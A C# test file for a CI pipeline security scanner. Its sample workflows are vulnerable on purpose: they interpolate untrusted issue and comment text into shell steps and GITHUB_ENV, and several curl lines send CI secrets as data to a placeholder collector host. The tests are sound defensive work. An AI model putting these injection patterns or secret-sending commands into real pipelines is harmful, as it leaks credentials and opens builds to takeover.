using PipeWatch.Detectors.CodeChange;
using PipeWatch.Detectors.CodeChange.PipelineTampering;
using PipeWatch.Detectors.CodeChange.Workflows;
using PipeWatch.Findings;
using Xunit;

namespace PipeWatch.Tests.Detectors.CodeChange.PipelineTampering;

/// <summary>The rule fixes the per-class corpus table asked for, each with a true and a safe example.</summary>
public sealed class WorkflowClassFixesTests
{
    [Fact]
    public void Env_written_from_outside_input_to_GITHUB_ENV_by_an_earlier_step_is_a_template_injection_in_a_later_step()
    {
        const string Workflow = """
            on: issues
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "TITLE=${{ github.event.issue.title }}" >> "$GITHUB_ENV"
                  - run: echo "BODY=$BODY" >> $GITHUB_ENV
                    env:
                      BODY: ${{ github.event.issue.body }}
                  - run: |
                      {
                        echo "LABELS<<EOF"
                        echo "${{ github.event.issue.labels.*.name }}"
                        echo "EOF"
                      } >> "$GITHUB_ENV"
                  - run: echo "SHA=${{ github.sha }}" >> "$GITHUB_ENV"
                  - run: |
                      echo "${{ env.TITLE }}"
                      echo "${{ env.BODY }}"
                      echo "${{ env.SHA }}"
                      echo "${{ env.UNSET }}"
            """;

        var issues = Injections(Workflow, CiPlatform.GitHubWorkflow);

        // The writers are injections themselves; the later step's env.TITLE and env.BODY are too; env.SHA (a commit id) and env.UNSET are not.
        Assert.Equal([(6, "github.event.issue.title"), (13, "github.event.issue.labels.*.name"), (18, "env.TITLE"), (19, "env.BODY")], issues.Select(i => (i.Line, Inner(i))));
        Assert.Contains("writes to GITHUB_ENV from github.event.issue.title", issues[2].Explanation, StringComparison.Ordinal);
        Assert.Contains("writes to GITHUB_ENV from $BODY = github.event.issue.body", issues[3].Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public void A_heredoc_block_written_to_GITHUB_ENV_carries_its_input()
    {
        const string Workflow = """
            on: issue_comment
            jobs:
              reply:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      echo "COMMENT<<EOF" >> "$GITHUB_ENV"
                      echo "${{ github.event.comment.body }}" >> "$GITHUB_ENV"
                      echo "EOF" >> "$GITHUB_ENV"
                  - run: gh issue comment 1 --body "${{ env.COMMENT }}"
            """;

        var issues = Injections(Workflow, CiPlatform.GitHubWorkflow);

        Assert.Equal([(8, "github.event.comment.body"), (10, "env.COMMENT")], issues.Select(i => (i.Line, Inner(i))));
    }

    [Fact]
    public void Azure_macros_a_pusher_chooses_are_injections_and_build_ids_are_not()
    {
        const string Pipeline = """
            pr:
              - main
            steps:
              - bash: echo "building $(System.PullRequest.SourceBranch)"
              - powershell: Write-Host "$(Build.SourceBranch)"
              - script: echo "$(Build.BuildId) $(Build.SourceVersion)"
            """;

        var issues = Injections(Pipeline, CiPlatform.AzurePipelines);

        Assert.Equal([(4, Severity.High), (5, Severity.Medium)], issues.Select(i => (i.Line, i.Severity)));
    }

    [Fact]
    public void A_secret_sent_as_a_requests_credentials_is_not_exfiltration_and_one_sent_as_data_is()
    {
        const string Workflow = """
            on: push
            jobs:
              call:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      curl -H "Authorization: Bearer ${{ secrets.API_KEY }}" https://api.example.com
                      curl -u "ci:${{ secrets.NEXUS_PASSWORD }}" https://nexus.example.com/upload
                      curl -d "${{ secrets.API_KEY }}" https://collector.example.net
                      curl -d "k=${{ secrets.API_KEY }}" -H "Authorization: ${{ secrets.OTHER }}" https://collector.example.net
            """;

        var issues = Analyse(Workflow, CiPlatform.GitHubWorkflow).Where(i => i.Rule == SecretsExfiltrationCheck.Rule).ToList();

        Assert.Equal([9, 10], issues.Select(i => i.Line));
    }

    [Fact]
    public void A_docker_action_built_from_its_Dockerfile_is_not_an_unpinned_image_and_a_pulled_one_is()
    {
        const string Local = """
            name: lint
            description: lints
            runs:
              using: docker
              image: Dockerfile
            """;
        const string Pulled = """
            name: lint
            description: lints
            runs:
              using: docker
              image: docker://alpine:latest
            """;

        Assert.DoesNotContain(Analyse(Local, CiPlatform.GitHubAction), i => i.Rule == UnpinnedImageCheck.Rule);
        Assert.Equal(5, Assert.Single(Analyse(Pulled, CiPlatform.GitHubAction), i => i.Rule == UnpinnedImageCheck.Rule).Line);
    }

    [Fact]
    public void A_GitLab_file_with_a_spec_header_document_is_read_from_its_pipeline_document()
    {
        const string Pipeline = """
            spec:
              inputs:
                name:
            ---
            variables:
              CI_DEBUG_TRACE: "true"
            test:
              stage: test
              script:
                - make test
            """;
        const string Quiet = """
            spec:
              inputs:
                name:
            ---
            test:
              stage: test
              script:
                - make test
            """;

        Assert.Equal(6, Assert.Single(Analyse(Pipeline, CiPlatform.GitLabCi), i => i.Rule == DebugLoggingCheck.Rule).Line);
        Assert.Empty(Analyse(Quiet, CiPlatform.GitLabCi));
    }

    [Theory]
    [InlineData(".azure-pipelines.yml", CiPlatform.AzurePipelines)]
    [InlineData("ci/.azure-pipelines.yaml", CiPlatform.AzurePipelines)]
    [InlineData("docs/pipelines.yml", null)]
    public void A_dot_azure_pipelines_file_is_recognised_by_its_name(string path, CiPlatform? expected) =>
        Assert.Equal(expected, CiDefinitionParser.Classify(path));

    private static List<WorkflowIssue> Injections(string text, CiPlatform platform) =>
        [.. Analyse(text, platform).Where(i => i.Rule == TemplateInjectionCheck.Rule).OrderBy(i => i.Line)];

    private static IReadOnlyList<WorkflowIssue> Analyse(string text, CiPlatform platform)
    {
        var definition = CiDefinitionParser.Parse("ci.yml", text, platform, out var error);
        Assert.True(definition is not null, error);
        return PipelineTamperingDetector.Inspect(null, definition, new ActionPins());
    }

    private static string Inner(WorkflowIssue issue) => issue.Key.Split('|')[^1];
}
